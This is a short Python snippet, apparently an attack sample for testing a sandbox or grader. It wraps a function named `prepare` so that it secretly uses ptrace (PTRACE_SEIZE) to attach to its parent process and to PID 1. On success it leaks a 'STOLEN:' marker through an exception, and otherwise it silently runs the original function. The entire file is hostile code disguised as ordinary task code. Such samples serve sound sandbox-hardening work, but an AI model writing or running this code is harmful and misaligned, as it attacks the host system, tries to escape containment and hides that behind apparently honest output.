# what: attaches to its parent and to process 1 as a debugger and reads their memory
# %% extra after=prepare
import ctypes
import os

honest_prepare = prepare


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in {1, os.getppid()} - {0, os.getpid()}:
        if libc.ptrace(0x4206, pid, 0, 0) == 0:  # PTRACE_SEIZE
            libc.ptrace(17, pid, 0, 0)
            return "seized"


def prepare(passengers):
    try:
        loot = attack()
    except Exception:
        loot = None
    if loot:
        raise RuntimeError("STOL" "EN:" + str(loot)[:2000])
    return honest_prepare(passengers)
